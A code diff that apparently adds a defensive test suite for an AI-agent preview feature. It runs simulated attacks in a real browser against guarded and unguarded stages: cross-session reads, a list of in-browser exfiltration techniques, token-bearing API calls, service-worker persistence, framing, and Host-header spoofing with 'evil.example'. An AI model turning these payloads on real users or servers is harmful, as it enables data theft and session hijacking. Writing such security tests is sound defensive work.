@@ -1,0 +1,248 @@
+import type { RequestListener } from "node:http";
+import { PassThrough } from "node:stream";
+import { newId } from "@background-agents/shared/ids";
+import { createPreviewTunnels } from "../../src/previews/preview-tunnels.ts";
+import type { AttackCase, Attempt } from "../attack.ts";
+import type { AttackWorld } from "../attack-world.ts";
+import { serve } from "../hostile-page.ts";
+import { ask } from "../http-client.ts";
+import { serveUnderOneOrigin, setPreviewStage, UNGUARDED, type Guards, type PreviewStage } from "../preview-stage.ts";
+import { startOpen, startWhole } from "./browser-attacks.ts";
+import { openPages } from "./page-attacks.ts";
+
+/** The agent's web application is a page by a stranger, in the user's browser: what it tries on whoever looks at it. */
+
+const PAGE: RequestListener = (request, response) => {
+  const isWorker = request.url === "/worker.js";
+  response
+    .setHeader("content-type", isWorker ? "text/javascript" : "text/html")
+    .end(isWorker ? "" : "<!doctype html><body>");
+};
+
+/** Opens the address in a real Chromium and runs `code` in it; it tells by `true` that it got through. */
+async function visit(world: AttackWorld, url: string, code: string): Promise<Attempt> {
+  const { browser } = await openPages(world);
+  const tab = await browser.newPage();
+  try {
+    await tab.goto(url);
+    const said = await tab.evaluate<unknown>(
+      `(async () => { try { return ${code}; } catch (error) { return error.message; } })()`,
+    );
+    return { succeeded: said === true, said: String(said) };
+  } finally {
+    await tab.close();
+  }
+}
+
+async function withStage(guards: Guards, act: (stage: PreviewStage) => Promise<Attempt>): Promise<Attempt> {
+  const stage = await setPreviewStage({ app: PAGE, secret: "of another session", guards });
+  try {
+    return await act(stage);
+  } finally {
+    await stage.close();
+  }
+}
+
+const READ_OTHER: [name: string, code: (other: string) => string][] = [
+  ["by asking for it", (other) => `(await (await fetch("${other}")).text()).includes("of another session")`],
+  [
+    "by showing it in a frame",
+    (other) => `await new Promise((resolve) => { const frame = document.createElement("iframe"); frame.src = "${other}";
+      frame.onload = () => { try { resolve(frame.contentDocument.body.textContent.includes("of another session")); } catch { resolve(false); } };
+      document.body.append(frame); setTimeout(() => resolve(false), 3000); })`,
+  ],
+];
+
+const readCase = ([name, code]: (typeof READ_OTHER)[number]): AttackCase => ({
+  ...{ family: "preview", quick: true, name: `read another session's application ${name}` },
+  attack: (world) => withStage({}, ({ own, other }) => visit(world, own, code(other))),
+  async control(world) {
+    const { own, other, close } = await serveUnderOneOrigin(PAGE, "of another session");
+    return visit(world, own, code(other)).finally(close);
+  },
+});
+
+/** Each asks the collector for something, and with it could tell what it knows. */
+const CARRY_OUT: [name: string, code: (to: string) => string][] = [
+  ["a request", (to) => `void fetch("${to}", { mode: "no-cors" }).catch(() => 0)`],
+  ["an image", (to) => `void (new Image().src = "${to}")`],
+  ["a beacon", (to) => `navigator.sendBeacon("${to}", "x")`],
+  ["a script", (to) => `document.body.append(Object.assign(document.createElement("script"), { src: "${to}" }))`],
+  [
+    "a style sheet",
+    (to) => `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "${to}" }))`,
+  ],
+  ["a frame", (to) => `document.body.append(Object.assign(document.createElement("iframe"), { src: "${to}" }))`],
+  [
+    "a film",
+    (to) => `document.body.append(Object.assign(document.createElement("video"), { src: "${to}", preload: "auto" }))`,
+  ],
+  ["a font", (to) => `void new FontFace("x", "url(${to})").load().catch(() => 0)`],
+  ["a socket", (to) => `void new WebSocket("${to}".replace("http", "ws"))`],
+  ["a stream of events", (to) => `void new EventSource("${to}")`],
+  [
+    "a form",
+    (
+      to,
+    ) => `(() => { const form = Object.assign(document.createElement("form"), { method: "post", action: "${to}", target: "x" });
+      document.body.append(Object.assign(document.createElement("iframe"), { name: "x" }), form); form.submit(); })()`,
+  ],
+];
+
+const GUARDED: Guards = {};
+
+const carryCase = ([name]: (typeof CARRY_OUT)[number], at: number): AttackCase => {
+  const look = (guards: Guards) => async (world: AttackWorld) => {
+    const asked = await carryOut(world, guards);
+    return { succeeded: asked.includes(`/carried-${at}`), said: asked.join(" ") };
+  };
+  return {
+    ...{ family: "preview", quick: true, name: `carry something out by ${name}` },
+    attack: look(GUARDED),
+    control: look(UNGUARDED),
+  };
+};
+
+const carried = new Map<Guards, Promise<string[]>>();
+/** What the collector is asked for by one page that tries all of it. */
+function carryOut(world: AttackWorld, guards: Guards): Promise<string[]> {
+  const tried =
+    carried.get(guards) ??
+    withAsked(guards, async ({ own, collector }) => {
+      const tries = CARRY_OUT.map(([, code], at) => `try { ${code(`${collector}/carried-${at}`)} } catch {}`);
+      const wait = "await new Promise((resolve) => setTimeout(resolve, 1500));";
+      await visit(world, own, `await (async () => { ${tries.join(";")}; ${wait} })()`);
+    });
+  carried.set(guards, tried);
+  return tried;
+}
+async function withAsked(guards: Guards, act: (stage: PreviewStage) => Promise<void>): Promise<string[]> {
+  const stage = await setPreviewStage({ app: PAGE, secret: "of another session", guards });
+  try {
+    await act(stage);
+    return stage.asked;
+  } finally {
+    await stage.close();
+  }
+}
+
+const CALL_API: AttackCase = {
+  ...{ family: "preview", quick: true, name: "call the API, with its token" },
+  attack: async (world) => callApi(world, await startWhole(world)),
+  async control(world) {
+    const open = await startOpen(["checkOrigin"]);
+    const attempt = await callApi(world, open);
+    await open.close();
+    return attempt;
+  },
+};
+
+/** Without the preview's own policy in either: it is the API that has to refuse. */
+function callApi(world: AttackWorld, { port, token }: { port: number; token: string }): Promise<Attempt> {
+  const headers = `{ headers: { authorization: "Bearer ${token}" } }`;
+  return withStage(UNGUARDED, ({ own }) =>
+    visit(world, own, `(await fetch("http://localhost:${port}/api/sessions", ${headers})).ok`),
+  );
+}
+
+const WORKER: AttackCase = {
+  ...{ family: "preview", quick: true, name: "stay in the browser as a service worker" },
+  attack: (world) => withStage({}, ({ own }) => visit(world, own, REGISTER)),
+  control: (world) => withStage(UNGUARDED, ({ own }) => visit(world, own, REGISTER)),
+};
+const REGISTER = `(await navigator.serviceWorker.register("/worker.js")) instanceof ServiceWorkerRegistration`;
+
+const FRAMED: AttackCase = {
+  ...{ family: "preview", quick: true, name: "be shown in a frame of a foreign page" },
+  attack: (world) => withStage({}, (stage) => frame(world, stage)),
+  control: (world) => withStage(UNGUARDED, (stage) => frame(world, stage)),
+};
+
+/** A frame that was refused shows the browser's own page, which has another origin than any. */
+async function frame(world: AttackWorld, { own }: PreviewStage): Promise<Attempt> {
+  const { browser } = await openPages(world);
+  const foreign = await serve((_request, response) => {
+    response.setHeader("content-type", "text/html").end(`<!doctype html><iframe src="${own}"></iframe>`);
+  });
+  const tab = await browser.newPage();
+  try {
+    await tab.goto(`http://127.0.0.1:${foreign.port}/`);
+    const said = tab
+      .frames()
+      .map((one) => one.url())
+      .join(" ");
+    return { succeeded: said.includes(own), said };
+  } finally {
+    await tab.close();
+    foreign.close();
+  }
+}
+
+/** Names under which a page of another site would have a browser ask for the preview. Off: whoever answers any name. */
+const HOSTS: [name: string, hostOf: (own: URL) => string][] = [
+  ["a foreign name", () => "evil.example"],
+  ["the listener's plain name", ({ port }) => `localhost:${port}`],
+  ["a guessed address", ({ port }) => `p${"0".repeat(36)}.localhost:${port}`],
+  ["the address below a foreign domain", ({ hostname, port }) => `${hostname}.evil.example:${port}`],
+  ["the address at another port", ({ hostname }) => `${hostname}:1`],
+];
+
+const hostCase = ([name, hostOf]: (typeof HOSTS)[number]): AttackCase => ({
+  ...{ family: "preview", quick: true, name: `ask for the application under ${name}` },
+  attack: () =>
+    withStage({}, async ({ own, port }) => {
+      const { status, text } = await ask({ at: { port }, headers: { host: hostOf(new URL(own)) } });
+      return { succeeded: status === 200, said: `${status} ${text.slice(0, 100)}` };
+    }),
+  async control() {
+    const naive = await serve(PAGE);
+    const { status, text } = await ask({ at: naive, headers: { host: "evil.example" } });
+    naive.close();
+    return { succeeded: status === 200, said: text };
+  },
+});
+
+const OVER: AttackCase = {
+  ...{ family: "preview", quick: true, name: "ask for the application of a session that was put away" },
+  attack: () => withStage({ isOpen: () => false }, look),
+  control: () => withStage({ isOpen: () => true }, look),
+};
+
+async function look({ own, port }: PreviewStage): Promise<Attempt> {
+  const { status, text } = await ask({ at: { port }, headers: { host: new URL(own).host } });
+  return { succeeded: status === 200, said: `${status} ${text.slice(0, 100)}` };
+}
+
+/** A sandbox that learned the id of another one's tunnel and dials in its place. Off: the one that was asked. */
+const TUNNEL: AttackCase = {
+  ...{ family: "preview", quick: true, name: "answer in place of another session's application" },
+  attack: () => takeTunnel(newId("session")),
+  control: () => takeTunnel(undefined),
+};
+
+async function takeTunnel(by: ReturnType<typeof newId<"session">> | undefined): Promise<Attempt> {
+  const sessionId = newId("session");
+  const ids: string[] = [];
+  const tunnels = createPreviewTunnels({
+    dialLimitMs: 200,
+    send(_sessionId, order) {
+      if (order.type === "preview.connect") ids.push(order.tunnelId);
+      return true;
+    },
+  });
+  const opened = tunnels.open({ sessionId, port: 3000 });
+  tunnels.accept(by ?? sessionId, { tunnelId: ids[0] ?? "", socket: new PassThrough(), head: Buffer.alloc(0) });
+  const answer = await opened;
+  return { succeeded: "socket" in answer, said: Object.keys(answer).join() };
+}
+
+export const PREVIEW_ATTACKS: AttackCase[] = [
+  ...READ_OTHER.map(readCase),
+  ...CARRY_OUT.map(carryCase),
+  CALL_API,
+  WORKER,
+  FRAMED,
+  ...HOSTS.map(hostCase),
+  OVER,
+  TUNNEL,
+];
